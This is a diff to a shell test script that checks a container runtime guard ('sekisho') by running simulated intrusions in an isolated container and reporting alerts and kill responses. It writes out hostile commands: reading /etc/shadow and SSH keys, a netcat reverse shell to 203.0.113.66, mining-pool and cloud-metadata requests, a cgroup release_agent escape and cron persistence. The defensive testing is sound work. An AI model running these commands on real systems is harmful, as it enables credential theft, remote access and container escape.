@@ -78,7 +78,8 @@ make_image() {
 }
 
 start_guard() {
-	mkdir -p "$dir/rules" "$dir/state"
+	mkdir -p "$dir/rules" "$dir/state" "$dir/run"
+	chmod 700 "$dir/state" "$dir/run"
 	cp "$top"/rules/runtime/*.yaml "$dir/rules"
 	configure >"$dir/guard.yaml"
 	"$sekisho" guard run --config "$dir/guard.yaml" --rules "$dir/rules" --all -f json >"$dir/alerts" 2>"$dir/guard-log" &
@@ -88,10 +89,16 @@ start_guard() {
 	kill -0 "$guard" 2>/dev/null || { echo "The guard does not run here:" >&2; cat "$dir/guard-log" >&2; exit 1; }
 }
 
-# The alerts about our container from that line on, one a line: priority, rule, message.
+# The alerts about our container from that line on, one a line: priority, rule, technique of ATT&CK.
 alerts_from() {
-	tail -n "+$1" "$dir/alerts" | jq -r 'select(.container.name == "shop") |
-		[.priority, .rule, (.tags | map(select(test("^T[0-9]"))) | join(" ")), .message] | @tsv'
+	tail -n "+$1" "$dir/alerts" | jq -r 'select(.message and .container.name == "shop") |
+		[.priority, .rule, (.tags | map(select(test("^T[0-9]"))) | join(" "))] | @tsv'
+}
+
+# What was done about them.
+answers_from() {
+	tail -n "+$1" "$dir/alerts" | jq -r 'select(.type == "response" and .container.name == "shop") |
+		[.action, .outcome, (.microseconds / 1000 | tostring)] | @tsv'
 }
 
 attacks=0 seen=0 stopped=0
@@ -102,27 +109,29 @@ attack() {
 	attacks=$((attacks + 1))
 	from=$(($(wc -l <"$dir/alerts") + 1))
 	printf '\n%s%d. %s%s\n   %s$ %s%s\n' "$bold" "$attacks" "$what" "$off" "$dim" "$command" "$off"
-	status=0
-	docker exec "$@" shop /bin/sh -c "$command" </dev/null >"$dir/said" 2>&1 || status=$?
-	sed -n '1,3s/^/   /p' "$dir/said"
+	docker exec "$@" shop /bin/sh -c "$command" </dev/null >"$dir/said" 2>&1 || true
+	sed -n '1s/^/   /p' "$dir/said"
 	told() { [ -n "$(alerts_from "$from")" ]; }
 	for _ in $(seq 50); do
 		told && break
 		sleep 0.1
 	done
-	sleep 0.3
-	if [ "$status" = 137 ]; then
-		stopped=$((stopped + 1))
-		printf '   %sstopped before its first instruction%s\n' "$green" "$off"
-	fi
+	sleep 0.5
 	if ! told; then
 		printf '   the guard said nothing\n'
 		return
 	fi
 	seen=$((seen + 1))
-	alerts_from "$from" | sort -u -t "$(printf '\t')" -k2,2 | while IFS="$(printf '\t')" read -r priority rule technique message; do
+	tab=$(printf '\t')
+	alerts_from "$from" | sort -u -t "$tab" -k2,2 | while IFS=$tab read -r priority rule technique; do
 		printf '   %s%-8s %s%s  %s%s%s\n' "$red" "$priority" "$rule" "$off" "$dim" "$technique" "$off"
 	done
+	answers_from "$from" | sort -u -t "$tab" -k1,2 | while IFS=$tab read -r action outcome milliseconds; do
+		printf '   %s%s: %s, after %s ms%s\n' "$green" "$action" "$outcome" "$milliseconds" "$off"
+	done
+	if [ -n "$(answers_from "$from")" ]; then
+		stopped=$((stopped + 1))
+	fi
 }
 
 say "What is needed"
@@ -134,12 +143,22 @@ say "Build"
 ninja --quiet -C "$build" src/cmd/sekisho
 sekisho=$build/src/cmd/sekisho
 
-# Without drift in the configuration the guard tells and lets run.
 configure() {
 	cat <<-END
+		state: $dir/state
+		runtime: $dir/run
 		outputs:
 		  - kind: stdout
 		    format: json
+		responses:
+		  docker: $dir/docker.sock
+		  entries:
+		    - priority: critical
+		      actions: [kill-tree]
+		      limit: 100/1m
+		    - rules: [Program run that was added to the container]
+		      actions: [evidence, kill]
+		      limit: 100/1m
 	END
 }
 
@@ -152,16 +171,16 @@ say "The guard: $(cat "$top"/rules/runtime/*.yaml | grep -c '^- rule:') rules"
 start_guard
 cat "$dir/guard-log"
 docker run -d --name shop --network none --cap-add SYS_ADMIN --cap-add NET_ADMIN shop:1.0 /bin/sh -c \
-	'ip addr add 203.0.113.1/24 dev lo; ip route add default dev lo; while :; do sleep 60; done' >/dev/null ||
+	'ip addr add 203.0.113.1/24 dev lo; ip addr add 169.254.169.254/32 dev lo; ip route add default dev lo; while :; do nc -l -p 80 </dev/null; done' >/dev/null ||
 	{ echo "containers do not run here" >&2; exit 1; }
 
 say "Somebody has broken into the shop"
 attack "Reads the password hashes" 'cat /etc/shadow >/dev/null'
 attack "Looks for private keys, and takes one" 'find / -xdev -name "id_*" -path "*ssh*"; cat /root/.ssh/id_ed25519 >/dev/null'
-attack "Brings a program of his own and runs it" 'cp /bin/busybox /tmp/update; /tmp/update echo "running what the image does not have"'
-attack "Lets a shell call home" 'nc -e /bin/sh 203.0.113.66 4444'
+attack "Brings a program of his own and runs it" 'cp /bin/sh /tmp/update; /tmp/update -c "while :; do sleep 1; done"'
+attack "Lets a shell call home" 'nc 203.0.113.66 4444 -e /bin/sh'
 attack "Joins a mining pool" 'nc -w 1 203.0.113.99 14444 </dev/null; /bin/echo -o stratum+tcp://pool.example.com:14444'
-attack "Asks the cloud for the node's credentials" 'ip addr add 169.254.169.254/32 dev lo; wget -q -O - http://169.254.169.254/latest/meta-data/'
+attack "Asks the cloud for the node's credentials" 'wget -q -O - http://169.254.169.254/latest/meta-data/'
 attack "Tries to leave by the release agent of cgroups" 'mkdir -p /tmp/cgroup; echo /tmp/update >/tmp/cgroup/release_agent'
 attack "Mounts what it likes" 'mkdir -p /tmp/m; mount -t tmpfs none /tmp/m'
 attack "Comes back with the next start" 'mkdir -p /etc/cron.d; echo "* * * * * root /tmp/update" >/etc/cron.d/update'
@@ -172,5 +191,5 @@ say "Summary"
 kill "$guard" && wait "$guard" || true
 guard=''
 sed 's/^/guard: /' "$dir/guard-log" | tail -n 2
-printf '%d attacks, %d seen, %d stopped\n' "$attacks" "$seen" "$stopped"
+printf '%d attacks, %d seen, %d answered\n' "$attacks" "$seen" "$stopped"
 [ "$seen" = "$attacks" ]
